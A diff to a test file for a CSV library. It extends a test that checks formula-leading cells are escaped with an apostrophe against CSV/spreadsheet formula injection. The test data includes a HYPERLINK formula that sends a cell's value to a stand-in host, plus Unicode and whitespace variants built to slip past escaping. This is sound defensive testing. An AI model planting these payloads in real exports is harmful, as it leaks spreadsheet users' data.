@@ -58,13 +58,26 @@ describe('comma-separated values', () => {
     expect(await parse(csvLine(cells))).toEqual([[1, cells]]);
   });
 
-  it.each(['=HYPERLINK("http://x.example/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '\n=1'])(
-    'are never written so that a spreadsheet carries %j out, unless they are wanted raw',
-    async (cell) => {
-      expect(await parse(csvLine([cell, 'a=1']))).toEqual([[1, [`'${cell}`, 'a=1']]]);
-      expect(csvLine([cell], true)).not.toContain("'");
-    },
-  );
+  it.each([
+    '=HYPERLINK("http://x.example/?"&A1)',
+    '+1',
+    '-2+3',
+    '@SUM(1)',
+    '\t=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '\u200b=1',
+    '\u0000=1',
+    '\u000b=1',
+    '\uff1d1+1',
+    '\uff0b1',
+    '\uff0d1',
+    '\uff20SUM(1)',
+  ])('are never written so that a spreadsheet carries %j out, unless they are wanted raw', async (cell) => {
+    expect(await parse(csvLine([cell, 'a=1']))).toEqual([[1, [`'${cell}`, 'a=1']]]);
+    expect(csvLine([cell], true)).not.toContain("'");
+  });
 
   it.each(['\n', '""""\n', 'x'])(
     'are refused in less than a second when a quote stays open for a megabyte of %j',
